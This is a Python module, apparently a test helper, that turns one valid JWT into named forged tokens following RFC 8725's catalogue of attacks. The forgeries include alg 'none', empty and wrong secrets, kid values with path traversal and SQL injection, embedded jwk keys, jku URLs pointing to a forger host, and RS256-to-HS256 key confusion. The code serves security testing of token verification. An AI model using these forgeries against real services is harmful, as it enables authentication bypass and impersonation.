"""Tokens that somebody makes up who has a good one, and every key but ours."""

import base64
import hmac
import json
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

OWN = b"a secret of the forger's own, long"
KIDS = ("", "../../../../dev/null", "/dev/null", "' OR 1=1 --", "x' UNION SELECT 'k", "\0", "-1")


def forgeries(good: str) -> dict[str, str]:
    """
    Attacks of RFC 8725, section 2, on a gateway that issued *good*, by their names.

    Claims stay those of the good token: only who signed, and how, is another.
    """
    header = jwt.get_unverified_header(good)
    claims = jwt.decode(good, options={"verify_signature": False})
    head, body, signature = good.split(".")
    forged = {
        "no signature": f"{head}.{body}.",
        "two parts": f"{head}.{body}",
        "five parts, as if encrypted": f"{good}.{body}.{signature}",
        "another's claims": f"{head}.{_part(claims | {'sub': claims['sid']})}.{signature}",
        "another secret": _signed(header, claims, OWN),
        "an empty secret": _signed(header, claims, b""),
        "its own name as the secret": _signed(header, claims, str(header["kid"]).encode()),
    }
    for algorithm in ("none", "None", "nOnE", "NONE"):
        named = _part(header | {"alg": algorithm})
        forged[f"alg {algorithm}"] = f"{named}.{body}."
        forged[f"alg {algorithm}, signed"] = f"{named}.{body}.{signature}"
    for kid in KIDS:
        # What a path, a query or nothing at all would give as the key.
        forged[f"kid {kid!r}"] = _signed(header | {"kid": kid}, claims, b"")
        forged[f"kid {kid!r}, own"] = _signed(header | {"kid": kid}, claims, OWN)
    return forged | _asymmetric(header, claims)


def _asymmetric(header: dict[str, Any], claims: dict[str, Any]) -> dict[str, str]:
    """Signed with a key that the token itself brings, and a public key taken for a secret."""
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = private.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    brought = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(private.public_key()))
    curve = ec.generate_private_key(ec.SECP256R1())
    plain = {"kid": header["kid"], "typ": header["typ"]}
    elsewhere = "https://forger.example/keys.json"
    return {
        "RS256": jwt.encode(claims, private, "RS256", plain),
        "RS256 with its key": jwt.encode(claims, private, "RS256", plain | {"jwk": brought}),
        "RS256 with an address": jwt.encode(claims, private, "RS256", plain | {"jku": elsewhere}),
        "ES256": jwt.encode(claims, curve, "ES256", plain),
        "a public key as the secret": _signed(header, claims, public),
        "a key in the header": _signed(
            header | {"jwk": {"kty": "oct", "k": base64.urlsafe_b64encode(OWN).decode()}},
            claims,
            OWN,
        ),
        "an address of keys": _signed(header | {"jku": elsewhere, "x5u": elsewhere}, claims, OWN),
    }


def _part(value: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def _signed(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    signed = f"{_part(header)}.{_part(claims)}"
    digest = hmac.digest(secret, signed.encode(), "sha256")
    return f"{signed}.{base64.urlsafe_b64encode(digest).rstrip(b'=').decode()}"
